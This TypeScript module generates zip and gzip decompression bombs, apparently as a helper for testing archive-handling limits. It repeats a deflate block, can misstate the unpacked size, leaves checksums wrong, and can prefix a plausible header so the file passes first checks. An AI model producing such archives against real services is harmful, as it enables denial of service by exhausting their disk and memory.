import { deflateRawSync, constants } from 'node:zlib';
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';

/**
 * Archives that unpack to far more than they weigh. A run of one byte deflates to the same few bytes again and again,
 * so the packed stream is written by repetition: ten gigabytes take no longer to make than ten megabytes to write.
 */
const RUN = 16 * 1024 * 1024;

export interface Bomb {
  /** The byte that is repeated. */
  readonly fill: number;
  /** What stands before the run, such as a sound header row. */
  readonly start: string;
  /** Unpacked size in bytes, rounded up to whole runs. */
  readonly size: number;
  /** Unpacked size that the archive claims; left out, the truth. */
  readonly claimed?: number;
}

/** A `.zip` of one entry. The sums of its content are not right: who unpacks all of it to find out has lost already. */
export async function writeZipBomb(path: string, entry: string, bomb: Bomb): Promise<void> {
  const parts = deflated(bomb);
  const packed = parts.reduce((sum, part) => sum + part.length, 0);
  const name = Buffer.from(entry);
  const claimed = bomb.claimed ?? sizeOf(bomb);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(45, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(0xffffffff, 18);
  local.writeUInt32LE(0xffffffff, 22);
  local.writeUInt16LE(name.length, 26);
  local.writeUInt16LE(20, 28);
  const sizes = zip64Sizes(claimed, packed);
  const centre = Buffer.alloc(46);
  centre.writeUInt32LE(0x02014b50, 0);
  centre.writeUInt16LE(45, 4);
  centre.writeUInt16LE(45, 6);
  centre.writeUInt16LE(8, 10);
  centre.writeUInt32LE(0xffffffff, 20);
  centre.writeUInt32LE(0xffffffff, 24);
  centre.writeUInt16LE(name.length, 28);
  centre.writeUInt16LE(20, 30);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length + 20, 12);
  end.writeUInt32LE(30 + name.length + 20 + packed, 16);
  await writeAll(path, [local, name, sizes, ...parts, centre, name, sizes, end]);
}

/** A `.gz` of the same kind; its closing length is the unpacked size, cut to 32 bits as the format has it. */
export async function writeGzipBomb(path: string, bomb: Bomb): Promise<void> {
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(sizeOf(bomb) % 2 ** 32, 4);
  await writeAll(path, [header, ...deflated(bomb), trailer]);
}

function sizeOf({ start, size }: Bomb): number {
  return Buffer.byteLength(start) + Math.ceil(size / RUN) * RUN;
}

function deflated({ fill, start, size }: Bomb): Buffer[] {
  // A full flush ends on a byte boundary and forgets what came before: the piece may be followed by itself.
  const flush = { level: 9, finishFlush: constants.Z_FULL_FLUSH };
  const run = deflateRawSync(Buffer.alloc(RUN, fill), flush);
  return [
    deflateRawSync(Buffer.from(start), flush),
    ...Array.from({ length: Math.ceil(size / RUN) }, () => run),
    deflateRawSync(Buffer.alloc(0)),
  ];
}

function zip64Sizes(unpacked: number, packed: number): Buffer {
  const extra = Buffer.alloc(20);
  extra.writeUInt16LE(1, 0);
  extra.writeUInt16LE(16, 2);
  extra.writeBigUInt64LE(BigInt(unpacked), 4);
  extra.writeBigUInt64LE(BigInt(packed), 12);
  return extra;
}

async function writeAll(path: string, parts: readonly Buffer[]): Promise<void> {
  const file = createWriteStream(path);
  for (const part of parts) if (!file.write(part)) await once(file, 'drain');
  file.end();
  await once(file, 'finish');
}
